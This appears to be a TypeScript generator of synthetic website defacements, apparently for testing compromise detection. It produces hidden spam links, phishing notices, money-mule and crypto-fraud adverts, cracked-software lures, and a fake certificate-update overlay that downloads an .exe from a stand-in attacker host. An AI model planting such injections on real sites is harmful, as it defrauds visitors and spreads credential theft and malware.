  const lines = sample(rng, careBrands, between(rng, 3, 8)).map((b) => pick(rng, [
    `${b} ${pick(rng, ["customer service number", "reservations phone number", "support phone number", "24/7 helpline", "refund number"])} ☎ ${num}`,
    `How do I talk to a live person at ${b}? Call ${num} (${pick(rng, ["toll free", "24 hours", "no wait"])})`,
    `${pick(rng, ["Does", "Can I call"])} ${b} ${pick(rng, ["have 24 hour support", "to change my flight", "to recover my account"])}? ${num}`
  ]))
  const hideIt = chance(rng, 0.35)
  const block = pick(rng, [
    `<div class="${pick(rng, ["faq", "help-links", "seo"])}"${hideIt ? ` style="position:absolute;left:-${between(rng, 2000, 9000)}px"` : ""}>${lines.map((l) => `<p><a href="${site}/${slug(l).slice(0, 40)}">${esc(l)}</a></p>`).join("")}</div>`,
    `<ul${hideIt ? ` style="height:0;overflow:hidden"` : ""}>${lines.map((l) => `<li>${esc(l)}</li>`).join("")}<li><a href="${site}">${esc(num)}</a></li></ul>`
  ])
  const out: Array<Splice> = [insert(pick(rng, [slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), block)]
  if (page.spots.title !== null && chance(rng, 0.3)) out.push(insert(page.spots.title.start, `${esc(lines[0]!)} | `))
  return { splices: out }
})

const docLines: ReadonlyArray<readonly [string, string]> = [
  ["de", "Führerschein kaufen ohne Prüfung"], ["de", "Echten registrierten Führerschein kaufen"], ["de", "Reisepass kaufen online"],
  ["nl", "Rijbewijs kopen zonder examen"], ["nl", "Echt rijbewijs kopen in Nederland"], ["it", "Comprare patente di guida registrata"],
  ["it", "Patente B senza esame"], ["es", "Comprar carnet de conducir sin examen"], ["fr", "Acheter permis de conduire sans examen"],
  ["fr", "Permis de conduire enregistré à vendre"], ["pt", "Comprar carteira de motorista registrada"], ["en", "Buy real registered passport online"],
  ["en", "Buy IELTS certificate without exam"], ["en", "Buy driver's license online, registered in the database"], ["pl", "Kup prawo jazdy bez egzaminu"]
]

// Spam selling forged or "registered" identity documents, recalled from memory of the German, Dutch and Italian keyword spam ("Führerschein kaufen", "rijbewijs kopen", "patente di guida") filling hacked sites, forums and comment sections (about 2019–2024, reported in WordPress and Google Search Central forums): lines in several languages promising real driving licences, passports and certificates without an exam, linking to the sellers.
const documentSpam = fresh8("'buy a registered driving licence or passport without exam' spam in several languages", (page, rng) => {
  const shop = () => `https://${pick(rng, [`${pick(rng, ["fuhrerschein", "rijbewijs", "patente", "permis", "carnet", "docs", "passport"])}${pick(rng, ["kaufen", "kopen", "online", "-store", "-eu", "shop"])}${pick(rng, ["", between(rng, 2, 99).toString()])}.${pick(rng, ["com", "net", "org", "eu", "shop", "online"])}`, randomDomain(rng)])}/`
  const chosen = sample(rng, docLines, between(rng, 3, 7))
  const wa = `+${pick(rng, ["44", "49", "31", "39", "237", "1"])}${digits(rng, 9)}`
  const hideIt = chance(rng, 0.3)
  const block = pick(rng, [
    `<div class="${pick(rng, ["links", "partners", "tags"])}"${hideIt ? ` style="font-size:0"` : ""}>${chosen.map(([l, t]) => `<a lang="${l}" href="${shop()}">${esc(t)}</a>`).join(" · ")}</div>`,
    `<div class="comment"><p>${esc(chosen[0]![1])}? ${pick(rng, ["We produce real documents registered in the database.", "100% registered, no exam, fast delivery.", "Echte Dokumente, in der Datenbank registriert."])} WhatsApp: ${esc(wa)}</p><ul>${chosen.slice(1).map(([l, t]) => `<li lang="${l}"><a href="${shop()}">${esc(t)}</a></li>`).join("")}</ul></div>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), bottom(page)]), block))
})

const loanKeys = [
  "payday loans no credit check", "instant payday loans online", "cash advance same day", "bad credit loans guaranteed approval", "title loans near me",
  "installment loans online", "Sofortkredit ohne Schufa", "préstamos rápidos sin aval", "minicredito online senza busta paga", "snel geld lenen zonder BKR", "mini crédit rapide"
]

// Payday-loan SEO spam, recalled from memory of Sucuri and Wordfence posts on hacked WordPress sites (about 2013–2020) and Google's 2013 "payday loan" ranking update, which targeted spammy queries: here the links are hidden in the areas of an image map on a one-pixel image, where a link scanner looking for anchors does not see them.
const loanImageMap = fresh8("payday-loan spam links hidden in the areas of an image map on a one-pixel image", (page, rng) => {
  const name = pick(rng, ["m", "map", "nav-map", "im" + digits(rng, 3), alnum(rng, 5)])
  const keys = sample(rng, loanKeys, between(rng, 3, 8))
  const host = () => pick(rng, [randomDomain(rng), `${pick(rng, ["payday", "loans", "cash", "credit", "kredit"])}${pick(rng, ["-now", "fast", "24", "online", "hub"])}.${pick(rng, ["com", "net", "us", "org", "xyz"])}`])
  const areas = keys.map((k, i) => `<area shape="rect" coords="0,0,${i + 1},1" href="https://${host()}/${slug(k)}" alt="${esc(k)}" title="${esc(k)}">`)
  const gif = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
  const img = chance(rng, 0.7) ? `<img src="${gif}" width="1" height="1" usemap="#${name}" alt="">` : `<img src="/wp-includes/images/blank.gif" width="${between(rng, 1, 3)}" height="1" usemap="#${name}" alt="">`
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), bottom(page), anySlot(rng, page.spots)]), `${img}<map name="${name}">${areas.join("")}</map>`))
})

const closingWords: Record<Lang, readonly [(b: string) => string, (p: number) => string, string]> = {
  en: [(b) => `${b} is closing down — thank you for your loyalty`, (p) => `After many years we are closing our business. Everything must go: up to ${p}% off all remaining stock in our clearance store until stocks run out.`, "Shop the closing-down sale"],
  fr: [(b) => `${b} ferme ses portes — merci pour votre fidélité`, (p) => `Après de nombreuses années, nous cessons notre activité. Tout doit disparaître : jusqu'à -${p} % sur tout le stock restant dans notre boutique de liquidation.`, "Voir la liquidation totale"],
  de: [(b) => `${b} schließt — danke für Ihre Treue`, (p) => `Nach vielen Jahren geben wir unser Geschäft auf. Alles muss raus: bis zu ${p} % Rabatt auf den gesamten Restbestand in unserem Räumungsverkauf-Shop.`, "Zum Räumungsverkauf"],
  es: [(b) => `${b} cierra — gracias por su fidelidad`, (p) => `Después de muchos años cerramos el negocio. Liquidación total: hasta un ${p} % de descuento en todo el stock restante en nuestra tienda de liquidación.`, "Ver la liquidación"],
  nl: [(b) => `${b} stopt — bedankt voor uw trouw`, (p) => `Na vele jaren sluiten wij ons bedrijf. Alles moet weg: tot ${p}% korting op de hele restvoorraad in onze uitverkoopwinkel.`, "Naar de opheffingsuitverkoop"],
  pt: [(b) => `A ${b} vai encerrar as atividades — obrigado pela confiança`, (p) => `Depois de muitos anos, estamos fechando. Queima total: até ${p}% de desconto em todo o estoque restante na nossa loja de liquidação.`, "Ver a queima de estoque"],
  it: [(b) => `${b} chiude — grazie per la fedeltà`, (p) => `Dopo tanti anni chiudiamo l'attività. Svendita totale: fino al ${p}% di sconto su tutta la merce rimasta nel nostro negozio di liquidazione.`, "Vai alla svendita totale"]
}

// "Closing down sale" scams, recalled from memory of Which? and BBC reports (2023–2024) on fake adverts and shops claiming a well-known independent retailer was closing and selling everything off at up to 80–90% off, through look-alike web shops that took payment and sent nothing. Here the announcement on the retailer's own hacked page, linking to the look-alike.
const closingDownSale = fresh8("fake 'we are closing down, everything must go' sale linking to a look-alike shop", (page, rng) => {
  const [h, p, cta] = say(page, closingWords)
  const pct = pick(rng, [70, 75, 80, 85, 90])
  const shop = `https://${pick(rng, [`${page.site.brand}-${pick(rng, ["outlet", "sale", "clearance", "store"])}.${pick(rng, ["shop", "store", "com", "online", "top"])}`, brandLookalike(rng, page.site.brand)])}/${pick(rng, ["", "sale", "collections/all", "?utm_source=site"])}`
  const block = `<div class="${pick(rng, ["announcement-bar", "notice", "sale-banner"])}" style="background:${pick(rng, ["#000", "#b71c1c", "#222"])};color:#fff;padding:14px 18px;margin:10px 0;text-align:center"><h2>${esc(h(brandName(page)))}</h2><p>${esc(p(pct))}</p><p><a href="${shop}" style="color:#ffeb3b;font-weight:bold">${esc(cta)} →</a></p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), top(page)]), block))
})

const muleWords: Record<Lang, readonly [string, (c: string, pct: number) => string, string]> = {
  en: ["Work from home: payment processing assistant", (c, pct) => `${c} is looking for reliable people in your country to receive payments from our customers into their personal bank account and forward them to our partners. You keep ${pct}% of every transfer. No experience needed, 2–3 hours a week.`, "Apply now"],
  fr: ["Travail à domicile : assistant(e) de traitement des paiements", (c, pct) => `${c} recherche des personnes fiables dans votre pays pour recevoir les paiements de nos clients sur leur compte bancaire personnel et les reverser à nos partenaires. Vous gardez ${pct} % de chaque virement. Sans expérience, 2 à 3 heures par semaine.`, "Postuler"],
  de: ["Heimarbeit: Assistent/in Zahlungsabwicklung", (c, pct) => `${c} sucht zuverlässige Personen in Ihrem Land, die Zahlungen unserer Kunden auf ihrem privaten Bankkonto empfangen und an unsere Partner weiterleiten. Sie behalten ${pct} % jeder Überweisung. Keine Erfahrung nötig, 2–3 Stunden pro Woche.`, "Jetzt bewerben"],
  es: ["Trabajo desde casa: asistente de procesamiento de pagos", (c, pct) => `${c} busca personas de confianza en su país para recibir pagos de nuestros clientes en su cuenta bancaria personal y reenviarlos a nuestros socios. Se queda con el ${pct} % de cada transferencia. Sin experiencia, 2–3 horas a la semana.`, "Inscríbase"],
  nl: ["Thuiswerk: assistent betalingsverwerking", (c, pct) => `${c} zoekt betrouwbare mensen in uw land die betalingen van onze klanten op hun eigen bankrekening ontvangen en doorsturen naar onze partners. U houdt ${pct}% van elke overboeking. Geen ervaring nodig, 2–3 uur per week.`, "Solliciteer nu"],
  pt: ["Trabalho em casa: assistente de processamento de pagamentos", (c, pct) => `A ${c} procura pessoas de confiança no seu país para receber pagamentos dos nossos clientes na sua conta bancária pessoal e repassá-los aos nossos parceiros. Você fica com ${pct}% de cada transferência. Sem experiência, 2–3 horas por semana.`, "Candidate-se"],
  it: ["Lavoro da casa: assistente elaborazione pagamenti", (c, pct) => `${c} cerca persone affidabili nel tuo paese per ricevere i pagamenti dei nostri clienti sul proprio conto personale e girarli ai nostri partner. Trattieni il ${pct}% di ogni bonifico. Nessuna esperienza, 2–3 ore a settimana.`, "Candidati ora"]
}

// Money-mule recruitment, recalled from memory of Europol's European Money Mule Action (EMMA) campaigns (yearly since about 2016), the FBI's money-mule initiative and UK Finance's "Don't be fooled" campaign: "payment processing agent" or "financial assistant" jobs where people receive money into their own account and pass it on for a cut, laundering fraud proceeds.
const muleRecruitment = fresh8("'payment processing assistant' job receiving money into your own account (money-mule recruitment)", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, muleWords)
  const company = pick(rng, ["Nordstar Trading Ltd", "EuroBridge Logistics", "Atlas Art Exports", "Blue Harbor Holdings", "Kappa Invest Group", "Meridian Crypto Services"])
  const contact = pick(rng, [`mailto:${pick(rng, ["hr", "jobs", "careers", "recruit"])}.${slug(company).split("-")[0]}@${pick(rng, ["gmail.com", "outlook.com", "proton.me", "yandex.com"])}`, `https://t.me/${pick(rng, ["hr", "jobs", "work"])}_${alnum(rng, 6)}`, `https://${randomDomain(rng)}/${pick(rng, ["apply", "careers", "job"])}`, `https://wa.me/${pick(rng, ["44", "49", "31", "1", "971"])}${digits(rng, 9)}`])
  const block = `<section class="${pick(rng, ["jobs", "vacancy", "careers"])}" style="border:1px solid #ccc;padding:14px;margin:12px 0"><h3>${esc(h)}</h3><p>${esc(p(company, pick(rng, [5, 8, 10, 15])))}</p><p><a href="${esc(contact)}">${esc(cta)}</a></p></section>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "top")]), block))
})

// "Pig butchering" (sha zhu pan) investment fraud, recalled from memory of Sophos X-Ops' CryptoRom reports (2021–2022) and ProPublica's and the FBI IC3's reporting (2022–2023): a friendly "mentor" on WhatsApp or Telegram, a trading app installed outside the app stores or as a web clip, and an invitation code to register, after which deposits are shown growing until withdrawal is refused.
const pigButchering = fresh8("'trade with our mentor' invitation code for a crypto trading app (pig butchering)", (page, rng) => {
  const app = pick(rng, ["BitForex Pro", "Coinbene Global", "ZT Capital", "Aurum Trade", "NexaFX", "MetaVault Exchange", "Lumina Finance"])
  const code = `${upper(rng, 2)}${digits(rng, 4)}${upper(rng, 1)}`
  const host = pick(rng, [`${slug(app).replace(/-/g, "")}.${pick(rng, ["com", "app", "vip", "pro", "io"])}`, randomDomain(rng), `app.${bare(randomDomain(rng))}`])
  const link = `https://${host}/${pick(rng, ["register", "h5/#/register", "download", "invite"])}?${pick(rng, ["code", "invite", "ref"])}=${code}`
  const mentor = pick(rng, ["Anna", "Lisa Chen", "Emily W.", "Sophie", "Jenny Liu", "Mia"])
  const wa = `https://wa.me/${pick(rng, ["1", "44", "852", "65", "60"])}${digits(rng, 9)}`
  const block = `<div class="${pick(rng, ["testimonial", "story", "community"])}" style="background:#f7fbff;border:1px solid #cfe3ff;padding:14px;margin:12px 0"><h3>${pick(rng, ["How I made", "I turned"])} ${page.site.locale.money(between(rng, 8, 60) * 1000)} ${pick(rng, ["in 3 months with crypto arbitrage", "trading gold and USDT", "with my mentor's signals"])}</h3><p>${esc(`My mentor ${mentor} showed me how to trade on ${app}. Register with invitation code ${code} to get the VIP signals and a ${pick(rng, ["20%", "30%", "50%"])} deposit bonus. Withdrawals in 24 hours.`)}</p><p><a href="${link}">${pick(rng, ["Download the app", "Open an account", "Register now"])}</a> · <a href="${wa}">${pick(rng, ["Chat with", "WhatsApp"])} ${esc(mentor)}</a></p></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "bottom")]), block))
})

const mfaWords: Record<Lang, readonly [string, string]> = {
  en: ["Your multi-factor authentication expires today", "Scan the code with your phone's camera to keep access to your account and mailbox."],
  fr: ["Votre authentification multifacteur expire aujourd'hui", "Scannez le code avec l'appareil photo de votre téléphone pour conserver l'accès à votre compte et à votre messagerie."],
  de: ["Ihre Mehrfaktor-Authentifizierung läuft heute ab", "Scannen Sie den Code mit der Kamera Ihres Telefons, um den Zugang zu Ihrem Konto und Postfach zu behalten."],
  es: ["Su autenticación multifactor caduca hoy", "Escanee el código con la cámara de su teléfono para mantener el acceso a su cuenta y su correo."],
  nl: ["Uw meervoudige authenticatie verloopt vandaag", "Scan de code met de camera van uw telefoon om toegang tot uw account en mailbox te houden."],
  pt: ["Sua autenticação multifator expira hoje", "Escaneie o código com a câmera do celular para manter o acesso à sua conta e ao seu e-mail."],
  it: ["La tua autenticazione a più fattori scade oggi", "Scansiona il codice con la fotocamera del telefono per mantenere l'accesso al tuo account e alla posta."]
}

// QR-code phishing ("quishing"), recalled from memory of Cofense, Check Point and Abnormal Security reports (2023) on campaigns telling Microsoft 365 users that their MFA had to be renewed by scanning a QR code, which moves the credential phishing to an unmanaged phone. Here the notice on a hacked page, with the code generated by a public QR API.
const mfaQuishing = fresh8("'scan this QR code to renew your multi-factor authentication' notice (quishing)", (page, rng) => {
  const [h, p] = siteOr(rng, page, mfaWords)
  const brand = pick(rng, ["Microsoft 365", "Microsoft Authenticator", "Office 365", "Outlook", `${brandName(page)} Staff Portal`])
  const phish = `https://${pick(rng, [`${pick(rng, ["login", "mfa", "auth", "secure"])}-${pick(rng, ["microsoft", "office365", "m365", page.site.brand])}.${pick(rng, ["com", "net", "online", "cloud", "site"])}`, `${alnum(rng, 8)}.${pick(rng, ["r2.dev", "pages.dev", "web.app", "workers.dev"])}`])}/${pick(rng, ["", "mfa", "?e=" + alnum(rng, 10)])}`
  const qr = pick(rng, [`https://api.qrserver.com/v1/create-qr-code/?size=180x180&amp;data=${encodeURIComponent(phish)}`, `https://quickchart.io/qr?text=${encodeURIComponent(phish)}&amp;size=180`, `https://chart.googleapis.com/chart?cht=qr&amp;chs=180x180&amp;chl=${encodeURIComponent(phish)}`])
  const block = `<div class="${pick(rng, ["mfa-notice", "it-notice", "security"])}" style="border:1px solid #0078d4;padding:16px;margin:12px 0;max-width:520px"><p><strong>${esc(brand)}</strong></p><h3>${esc(h)}</h3><p>${esc(p)}</p><img src="${qr}" width="180" height="180" alt="QR"><p><small>Ref. ${upper(rng, 3)}-${digits(rng, 6)}</small></p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), block))
})

// Gamer-account phishing, recalled from memory of Check Point and Kaspersky posts on "free Discord Nitro" gift links (2021–2022) and Group-IB's report on Steam "vote for our team" phishing with browser-in-the-browser windows (2022): a gift or giveaway for gamers, linking to a look-alike of discord.gift or steamcommunity.com that takes the account.
const gamerGift = fresh8("'free Discord Nitro' or 'Steam gift' giveaway linking to a look-alike sign-in", (page, rng) => {
  const [text, url] = pick(rng, [
    [`🎁 Free Discord Nitro for ${pick(rng, ["1 month", "3 months"])} — ${pick(rng, ["Epic Games x Discord promotion", "gift from our community", "limited drop"])}`, `https://${pick(rng, ["discord-gift", "dlscord", "discordnitro", "discord-app", "dicsord"])}.${pick(rng, ["gift", "com", "ru", "xyz", "click", "io"])}/${alnum(rng, 16)}`],
    [`Steam: ${pick(rng, ["free $50 gift card for the summer sale", "vote for our team in the esports tournament and get a free skin", "claim your free CS2 case"])}`, `https://${pick(rng, ["steamcommunlty", "steancommunity", "steamcommunity-gift", "stearncommunity", "steam-gifts"])}.${pick(rng, ["com", "ru", "net", "gift", "xyz"])}/${pick(rng, ["gift/activation", "vote", "tradeoffer/new/?partner=" + digits(rng, 9)])}`],
    [`Roblox: ${between(rng, 800, 10000)} free Robux — ${pick(rng, ["log in to claim", "official event"])}`, `https://${pick(rng, ["roblox-gift", "rbx-claim", "robIox"])}.${pick(rng, ["com", "xyz", "gg"])}/claim`]
  ] as const)
  const block = pick(rng, [
    `<div class="${pick(rng, ["giveaway", "promo", "event"])}" style="padding:12px;margin:10px 0;background:#5865f2;color:#fff;border-radius:8px"><strong>${esc(text)}</strong> <a href="${url}" style="color:#fff;text-decoration:underline">${pick(rng, ["Claim", "Accept gift", "Get it now"])}</a></div>`,
    `<p>${esc(text)}: <a href="${url}">${esc(url.replace(/^https:\/\//, ""))}</a></p>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), block))
})

// Infostealers spread as cracked software, recalled from memory of AhnLab ASEC's reports (2022–2024) on "crack" and "keygen" downloads delivering RedLine, Vidar and LummaC2, and Trend Micro's note (2023) on cracked-software links posted in videos and on hijacked pages: "full version, activation key" downloads on file-hosting services, with an archive password so scanners cannot look inside.
const crackedSoftware = fresh8("'cracked full version + keygen' downloads on file hosts with an archive password", (page, rng) => {
  const titles = sample(rng, ["Adobe Photoshop 2025", "Microsoft Office 2024 Pro Plus", "AutoCAD 2025", "FL Studio 21", "Windows 11 Activator", "CorelDRAW 2024", "Adobe Premiere Pro", "Wondershare Filmora 14", "IDM 6.42"], between(rng, 2, 5))
  const pw = pick(rng, ["2025", "1234", "crack", "soft", digits(rng, 4)])
  const file = () => pick(rng, [`https://mega.nz/file/${alnum(rng, 8)}#${alnum(rng, 22)}`, `https://www.mediafire.com/file/${alnum(rng, 15)}/${pick(rng, ["Setup", "Full_Version", "Crack"])}_${digits(rng, 4)}.zip/file`, `https://${randomDomain(rng)}/${pick(rng, ["dl", "get", "download"])}?file=${alnum(rng, 10)}`, `https://${pick(rng, ["gofile.io/d", "pixeldrain.com/u", "1drv.ms/u/s!"])}/${alnum(rng, 8)}`])
  const items = titles.map((t) => `<li><a href="${file()}">${esc(t)} ${pick(rng, ["Crack + Activation Key", "Full Version Free Download", "Pre-Activated", "+ Keygen (x64)"])}</a></li>`)
  const block = `<div class="${pick(rng, ["downloads", "software", "post"])}"><h3>${pick(rng, ["Free Software Download (Latest Version)", "Full Version Software – Cracked", "Download Free Activated Programs"])}</h3><ul>${items.join("")}</ul><p>${pick(rng, ["Archive password", "Password", "Pass"])}: <b>${esc(pw)}</b> · ${pick(rng, ["Disable your antivirus before installing (false positive).", "Turn off Windows Defender while extracting.", "100% working, tested."])}</p></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), block))
})

// Fake certificate-update notices on compromised sites, recalled from memory of Kaspersky's Securelist post (November 2019): hacked sites showed a full-window frame saying the site's security certificate was out of date and offering "Install (recommended)", which downloaded the Mokes backdoor or the Buerak downloader.
const certificateUpdate = fresh8("'the security certificate is out of date, install the update' frame over the site", (page, rng) => {
  const host = evil(rng, page)
  const file = pick(rng, ["Certificate_Update.exe", "SSL_Certificate_Update.exe", `${page.site.host}_certificate.exe`, "CertUpdate.msi", "Update_Root_CA.exe"])
  const title = pick(rng, ["The security certificate is out of date.", "Your connection is not secure: the site's certificate has expired.", "Security certificate expired"])
  const text = pick(rng, [
    `Attempts to connect to ${page.site.host} are not secure. To update the certificate, click "Install the update".`,
    `${page.site.host} uses a security certificate that is no longer valid. Install the latest certificate update to continue safely.`
  ])
  const ui = `<div style="position:fixed;inset:0;z-index:${zIndex(rng)};background:#fff;font-family:Segoe UI,Arial,sans-serif"><div style="max-width:600px;margin:12vh auto;padding:20px"><h2>🔒 ${esc(title)}</h2><p>${esc(text)}</p><p><a href="https://${host}/${file}" style="background:#1a73e8;color:#fff;padding:10px 18px;border-radius:4px">${pick(rng, ["Install the update (recommended)", "Install (recommended)", "Update certificate"])}</a></p><p style="color:#777;font-size:12px">${pick(rng, ["ERR_CERT_DATE_INVALID", "NET::ERR_CERT_EXPIRED", "SEC_ERROR_EXPIRED_CERTIFICATE"])}</p></div></div>`
  const framed = `<iframe src="https://${host}/${pick(rng, ["cert/index.php", "ssl.php", "update/" + alnum(rng, 6)])}?d=${page.site.host}" style="position:fixed;inset:0;width:100%;height:100%;border:0;z-index:${zIndex(rng)}"></iframe>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), chance(rng, 0.25) ? framed + ui : ui))
})

// High-yield investment programmes (HYIPs), recalled from memory of the SEC's and FINRA's investor alerts on HYIPs (about 2010–2013) and hosting-abuse reports of HYIP pages and "monitor" links planted on hacked sites: a table of plans paying a few percent a day, with the deposit address of a crypto wallet printed under it.
const hyipPlans = fresh8("HYIP plan table promising daily returns, with a deposit wallet address", (page, rng) => {
  const w = makeWallet(rng, pick(rng, ["BTC", "ETH", "USDT (TRC20)"] as const))
  const name = pick(rng, ["CryptoYield Capital", "Bitfarm Invest", "Golden Hash Ltd", "Stable Profit Club", "MinerDAO Fund", "Quantum Arb Ltd"])
  const plans = [[pick(rng, ["1.5%", "2%", "2.5%"]), "30", "$50"], [pick(rng, ["3%", "4%", "5%"]), "20", "$500"], [pick(rng, ["8%", "10%", "12%"]), "10", "$5,000"]] as const
  const rows = plans.map(([r, d, m], i) => `<tr><td>${pick(rng, ["Starter", "Silver", "Basic"])}${i === 0 ? "" : i === 1 ? " Pro" : " VIP"}</td><td>${r} daily</td><td>${d} days</td><td>${m}</td></tr>`)
  const block = `<section class="${pick(rng, ["invest", "plans", "pricing"])}" style="border:2px solid #f2a900;padding:14px;margin:12px 0"><h3>${esc(name)} — ${pick(rng, ["guaranteed daily profit", "automated mining income", "AI arbitrage returns"])}</h3><table><thead><tr><th>Plan</th><th>Return</th><th>Term</th><th>Minimum</th></tr></thead><tbody>${rows.join("")}</tbody></table><p>${pick(rng, ["Deposit", "Send your deposit to", "Invest now"])} (${w.coin}): <code>${w.address}</code></p><p>${pick(rng, ["Principal returned at the end of the term.", "Instant withdrawals. 10% referral commission.", "Registered company UK No. " + digits(rng, 8)])}</p></section>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "top")]), block))
})

// Hijacked brand accounts promoting memecoins, recalled from memory of McDonald's Instagram account being used to promote a "GRIMACE" token on Solana (August 2024) and many hacked company and celebrity X accounts announcing an "official token" with a contract address and a pump.fun link (2024): here the announcement on the company's own site.
const brandMemecoin = fresh8("fake 'official token launch' with a Solana contract address and a pump.fun link", (page, rng) => {
  const ticker = `$${(page.site.brand.replace(/[^a-z]/g, "").slice(0, 6) || pick(rng, ["MOON", "SITE"])).toUpperCase()}`
  const ca = `${base58(rng, between(rng, 39, 40))}${pick(rng, ["pump", "moon", ""])}`
  const link = pick(rng, [`https://pump.fun/coin/${ca}`, `https://raydium.io/swap/?inputMint=sol&amp;outputMint=${ca}`, `https://dexscreener.com/solana/${ca}`, `https://jup.ag/swap/SOL-${ca}`])
  const block = pick(rng, [
    `<div class="${pick(rng, ["announcement", "hero-banner", "news"])}" style="background:linear-gradient(90deg,#14f195,#9945ff);color:#000;padding:16px;margin:10px 0;text-align:center"><h2>🚀 ${esc(ticker)} ${pick(rng, ["is live on Solana!", "— our official token is here", "launches today"])}</h2><p>${esc(`${brandName(page)} ${pick(rng, ["thanks its community with", "is proud to launch", "celebrates with"])} ${ticker}. ${pick(rng, ["Early holders get exclusive rewards.", "Only 1,000,000,000 supply, liquidity locked.", "Not financial advice. LFG!"])}`)}</p><p>CA: <code>${ca}</code></p><p><a href="${link}">${pick(rng, ["Buy now", "Buy on pump.fun", "Trade"])} ${esc(ticker)}</a></p></div>`,
    `<p class="${pick(rng, ["notice", "promo"])}"><strong>${esc(ticker)}</strong> ${pick(rng, ["official token now live", "just launched"])} — CA: ${ca} — <a href="${link}">${pick(rng, ["buy here", "chart"])}</a></p>`
  ])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), top(page)]), block))
})

/** Every fresh8 defacement class, in a fixed order. */
export const fresh8Defacements: ReadonlyArray<ChangeClass> = [
  formactionHijack, formAttrHijack, danglingMarkup, stagedSkimmer, postMessageSkimmer, permissionHarvest, likejacking,
  scrollingTitle, mobileOnlyOverlay, insiderGrievance, seizureBanner, ipIntimidation, hiddenDonateRecipient, mandateFraud,
  premiumLine, careNumberSpam, documentSpam, loanImageMap, closingDownSale, muleRecruitment, pigButchering, mfaQuishing,
  gamerGift, crackedSoftware, certificateUpdate, hyipPlans, brandMemecoin
]
